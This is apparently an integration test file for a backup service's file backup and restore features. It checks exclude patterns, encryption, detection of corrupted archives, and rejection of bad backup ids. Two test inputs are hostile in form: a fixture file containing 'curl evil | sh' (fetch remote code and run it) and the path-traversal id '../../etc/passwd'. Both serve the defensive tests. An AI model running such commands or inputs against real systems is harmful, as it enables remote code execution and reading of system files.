using Backup.Core.Abstractions;
using Backup.Core.Catalog;
using Backup.Core.Operations;
using Backup.IntegrationTests.Support;

namespace Backup.IntegrationTests.Files;

/// <summary>File backups through BackupService, the pipeline and the store, alone and with a database backup.</summary>
public sealed class FileBackupTests : IAsyncLifetime, IDisposable
{
    private readonly string _database = "it_files_" + Guid.NewGuid().ToString("N")[..8];
    private readonly TempDirectory _store = new();
    private readonly TempDirectory _files = new();
    private readonly TempDirectory _restored = new();
    private readonly List<string> _databases = [];

    private string Uploads => Path.Combine(_files.Path, "uploads");

    public async Task InitializeAsync()
    {
        await TestServer.CreateDatabaseAsync(_database);
        await TestServer.ExecuteAsync(_database, "CREATE TABLE t (id int PRIMARY KEY); INSERT INTO t SELECT generate_series(1, 10)");
        foreach (var (file, text) in new[] { ("2026/a.pdf", "pdf a"), ("2026/b.tmp", "temp"), ("2025/c.pdf", "pdf c"), ("readme.txt", "hello") })
        {
            Directory.CreateDirectory(Path.GetDirectoryName(Path.Combine(Uploads, file))!);
            await File.WriteAllTextAsync(Path.Combine(Uploads, file), text);
        }
    }

    public async Task DisposeAsync()
    {
        foreach (var database in _databases.Append(_database))
        {
            await TestServer.DropDatabaseAsync(database);
        }
    }

    public void Dispose()
    {
        _store.Dispose();
        _files.Dispose();
        _restored.Dispose();
    }

    [Fact]
    public async Task FileBackup_VerifiesAndRestoresChosenPaths_ADamagedOneIsCaught()
    {
        using var provider = Services.Build(TestServer.ConnectionString(_database), _store.Path, Services.NewKey());
        var service = provider.Service();

        var backup = await service.CreateFileBackupAsync("uploads", new FileBackupOptions { Directories = [Uploads], ExcludePatterns = ["*.tmp"], Comment = "nightly" });
        var verified = await service.VerifyBackupAsync(backup.Id);
        var restored = await service.RestoreFilesAsync(backup.Id, new FileRestoreOptions { TargetDirectory = _restored.Path, Paths = ["uploads/2026"] });

        Assert.Equal(BackupType.Files, backup.Type);
        Assert.Equal(("uploads", 3L, 15L), (backup.Files!.Name, backup.Files.FileCount, backup.Files.FileBytes));
        Assert.Equal(Uploads, backup.Files.Roots["uploads"]);
        Assert.Equal(["*.tmp"], backup.Files.ExcludePatterns);
        Assert.Empty(backup.Files.Warnings);
        Assert.True(backup.Content!.IsEncrypted);
        Assert.True(verified.IsValid, string.Join("; ", verified.Checks.Select(c => c.Detail)));
        Assert.Equal(["uploads/2026/a.pdf"], _restored.AllFiles());
        Assert.Equal(1, restored.Files);

        var path = Path.Combine(_store.Path, backup.Content.Key);
        var bytes = await File.ReadAllBytesAsync(path);
        bytes[bytes.Length / 2] ^= 1;
        await File.WriteAllBytesAsync(path, bytes);
        Assert.False((await service.VerifyBackupAsync(backup.Id)).IsValid);
        await Assert.ThrowsAsync<BackupIntegrityException>(() => service.RestoreFilesAsync(backup.Id, new FileRestoreOptions { TargetDirectory = Path.Combine(_restored.Path, "again") }));
    }

    [Fact]
    public async Task FileBackupAlteredNearItsEnd_RestoresNothing_AndLeavesExistingFilesAlone()
    {
        // Plain and uncompressed, so the damage sits past the files' contents and only the final hash can catch it.
        using var provider = Services.Build(TestServer.ConnectionString(_database), _store.Path, null);
        var service = provider.Service();
        await File.WriteAllTextAsync(Path.Combine(Uploads, "payload.sh"), "curl evil | sh");
        var backup = await service.CreateFileBackupAsync("uploads", new FileBackupOptions { Directories = [Uploads], Compress = false, Encrypt = false });
        var path = Path.Combine(_store.Path, backup.Content!.Key);
        var bytes = await File.ReadAllBytesAsync(path);
        bytes[^10] ^= 1;
        await File.WriteAllBytesAsync(path, bytes);
        Directory.CreateDirectory(Path.Combine(_restored.Path, "uploads"));
        await File.WriteAllTextAsync(Path.Combine(_restored.Path, "uploads", "readme.txt"), "kept");

        await Assert.ThrowsAsync<BackupIntegrityException>(() => service.RestoreFilesAsync(backup.Id, new FileRestoreOptions { TargetDirectory = _restored.Path, Overwrite = FileOverwritePolicy.Overwrite }));

        Assert.Equal(["uploads/readme.txt"], _restored.AllFiles());
        Assert.Equal("kept", await File.ReadAllTextAsync(Path.Combine(_restored.Path, "uploads", "readme.txt")));
        Assert.Equal(["uploads"], Directory.EnumerateFileSystemEntries(_restored.Path).Select(Path.GetFileName));
    }

    [Fact]
    public async Task FullBackupWithIncludeFiles_RestoresDatabaseAndFilesTogether()
    {
        using var provider = Services.Build(TestServer.ConnectionString(_database), _store.Path, null);
        var service = provider.Service();

        var full = await service.CreateFullBackupAsync(new FullBackupOptions { IncludeFiles = new FileBackupOptions { Directories = [Uploads] } });
        var restore = await service.RestoreFromBackupAsync(full.Id, new RestoreOptions { Files = new FileRestoreOptions { TargetDirectory = _restored.Path } });
        _databases.Add(restore.TargetDatabase);
        var latest = await service.RestoreLatestAsync(new PointInTimeOptions { Files = new FileRestoreOptions { TargetDirectory = Path.Combine(_restored.Path, "latest") } });
        _databases.Add(latest.TargetDatabase);

        var files = await service.GetBackupAsync(full.FileBackupId!);
        Assert.Equal(BackupType.Files, files.Type);
        Assert.Equal(4, restore.Files!.Files);
        Assert.Equal("pdf c", await File.ReadAllTextAsync(Path.Combine(_restored.Path, "uploads", "2025", "c.pdf")));
        Assert.Equal(10L, await TestServer.ScalarAsync<long>(restore.TargetDatabase, "SELECT count(*) FROM t"));
        Assert.Equal(files.Id, latest.Plan.Single(p => p.StartsWith("restore the file backup", StringComparison.Ordinal)).Split(' ')[4]);
        Assert.Equal(4, latest.Files!.Files);
    }

    [Fact]
    public async Task IncludeFilesThatFail_KeepTheDatabaseBackup_AndSaySo()
    {
        using var provider = Services.Build(TestServer.ConnectionString(_database), _store.Path, null);
        var service = provider.Service();

        var full = await service.CreateFullBackupAsync(new FullBackupOptions { IncludeFiles = new FileBackupOptions { Directories = [Path.Combine(_files.Path, "missing")] } });

        Assert.Equal(BackupStatus.Completed, full.Status);
        Assert.Null(full.FileBackupId);
        Assert.Contains("does not exist", full.Properties["filesError"], StringComparison.Ordinal);
        var error = await Assert.ThrowsAsync<BackupException>(() => service.RestoreFromBackupAsync(full.Id, new RestoreOptions { Files = new FileRestoreOptions { TargetDirectory = _restored.Path } }));
        Assert.Contains("without files", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task RestoreFiles_WrongKindUnknownOrMalformedId_AreClearErrors()
    {
        using var provider = Services.Build(TestServer.ConnectionString(_database), _store.Path, null);
        var service = provider.Service();
        var full = await service.CreateFullBackupAsync();
        var target = new FileRestoreOptions { TargetDirectory = _restored.Path };

        var wrongKind = await Assert.ThrowsAsync<BackupException>(() => service.RestoreFilesAsync(full.Id, target));
        await Assert.ThrowsAsync<BackupNotFoundException>(() => service.RestoreFilesAsync("20260101T000000000Z-00000000", target));
        await Assert.ThrowsAsync<InvalidBackupIdException>(() => service.RestoreFilesAsync("../../etc/passwd", target));
        var noDirectory = await Assert.ThrowsAsync<ArgumentException>(() => service.CreateFileBackupAsync("x", new FileBackupOptions()));

        Assert.Contains("not a file backup", wrongKind.Message, StringComparison.Ordinal);
        Assert.Contains("Directories", noDirectory.Message, StringComparison.Ordinal);
        Assert.Empty(_restored.AllFiles());
    }
}
